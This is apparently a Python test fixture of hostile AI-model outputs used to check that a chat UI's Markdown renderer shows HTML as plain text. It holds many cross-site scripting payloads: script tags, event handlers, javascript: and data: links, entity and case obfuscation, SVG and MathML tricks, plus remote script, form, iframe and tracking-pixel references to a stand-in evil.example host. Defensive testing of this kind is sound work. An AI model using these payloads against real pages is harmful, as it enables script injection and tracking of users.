"""Hostile model output for the UI's renderer (issue 22; REQ-003 SEC-28..35, SECN-08).

Each case is (name, the model's text, a piece of it that must still show as
text, or "" when nothing need show). The renderer never reads HTML: tags come
out as their own characters, so the words of a refused element remain.
"""

from __future__ import annotations

PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"

CASES: list[tuple[str, str, str]] = [
    # scripts (SEC-28)
    ("script-tag", "<script>alert(1)</script>", "alert(1)"),
    ("script-src", '<script src="http://evil.example/x.js"></script>', "evil.example"),
    ("script-upper", "<SCRIPT>alert(2)</SCRIPT>", "alert(2)"),
    ("script-split", "<scr<script>ipt>alert(3)</script>", "alert(3)"),
    ("img-onerror", '<img src=x onerror="alert(4)">', "alert(4)"),
    ("body-onload", "<body onload=alert(5)>", "alert(5)"),
    ("div-onmouseover", '<div onmouseover="alert(6)">hover</div>', "hover"),
    ("javascript-link", "[click me](javascript:alert(7))", "click me"),
    ("javascript-link-case", "[click](JaVaScRiPt:alert(8))", "click"),
    ("javascript-entity", "[x](&#106;avascript:alert(9))", "x"),
    ("javascript-spaces", "[y](  javascript:alert(10))", "y"),
    ("vbscript-link", "[vb](vbscript:msgbox(1))", "vb"),
    ("data-html-link", "[d](data:text/html,<script>alert(11)</script>)", "d"),
    ("html-anchor-js", '<a href="javascript:alert(12)">a</a>', "alert(12)"),
    ("iframe", '<iframe src="http://evil.example"></iframe>', "iframe"),
    ("object-embed", '<object data="x.swf"></object><embed src="x.swf">', "object"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example">', "refresh"),
    ("base-href", '<base href="http://evil.example/">', "base"),
    # forms (SEC-29)
    ("form", '<form action="http://evil.example"><input name=a><button>Go</button></form>', "Go"),
    ("textarea-select", "<textarea>t</textarea><select><option>o</option></select>", "textarea"),
    ("button-formaction", '<button formaction="javascript:alert(13)">b</button>', "b"),
    # styles (SEC-30)
    ("style-block", "<style>body{display:none}</style>", "display:none"),
    ("style-attribute", '<p style="position:fixed;top:0">cover</p>', "cover"),
    ("link-stylesheet", '<link rel="stylesheet" href="http://evil.example/x.css">', "stylesheet"),
    # images (SEC-31, SEC-32, SEC-35)
    ("remote-image", "![a cat](http://evil.example/cat.png)", "a cat"),
    ("remote-image-https", "![tracker](https://evil.example/pixel.gif)", "tracker"),
    ("own-origin-image", "![own](/api/info)", "own"),
    ("relative-image", "![rel](cat.png)", "rel"),
    ("data-png-image", f"![dot]({PNG})", ""),
    ("data-gif-image", f"![tiny]({GIF})", ""),
    ("data-svg-image", f"![svg]({SVG})", "svg"),
    ("data-html-image", "![h](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "h"),
    ("html-img-remote", '<img src="http://evil.example/x.png" alt="remote">', "remote"),
    # media (SEC-33, SEC-34)
    (
        "video",
        '<video src="http://evil.example/v.mp4" poster="http://evil.example/p.png">',
        "video",
    ),
    ("audio-source", '<audio><source src="http://evil.example/a.mp3"></audio>', "audio"),
    ("picture-srcset", '<picture><source srcset="http://evil.example/x.png"></picture>', "srcset"),
    ("table-background", '<table background="http://evil.example/bg.png"><tr><td>t', "background"),
    # SVG and MathML tricks
    ("svg-onload", '<svg onload="alert(14)"><circle r=1 /></svg>', "alert(14)"),
    ("svg-script", "<svg><script>alert(15)</script></svg>", "alert(15)"),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(16)>#x"/></svg>', "use"),
    ("math-link", '<math><mtext><a href="javascript:alert(17)">m</a></mtext></math>', "m"),
    # nested Markdown and HTML
    ("markdown-in-html", "<b>**bold** [l](javascript:alert(18))</b>", "bold"),
    ("html-in-link-text", "[<img src=x onerror=alert(19)>](https://example.com)", "alert(19)"),
    ("link-title-quote", '[t](https://example.com "a" onmouseover="alert(20)")', "t"),
    ("autolink-js", "<javascript:alert(21)>", "alert(21)"),
    ("code-span-html", "`<script>alert(22)</script>`", "alert(22)"),
    ("fenced-html", "```html\n<script>alert(23)</script>\n```", "alert(23)"),
    ("quote-with-html", "> <iframe src=http://evil.example></iframe>\n> quoted", "quoted"),
    ("list-with-handler", "- <a onclick=alert(24)>item</a>\n- two", "two"),
    ("heading-with-style", "# <span style=color:red>Title</span>", "Title"),
    # links that are fine stay links, opened safely (SECN-08)
    ("https-link", "[docs](https://example.com/docs)", "docs"),
    ("mailto-link", "[mail](mailto:someone@example.com)", "mail"),
    ("bare-autolink", "<https://example.com/path?q=1>", "example.com"),
]
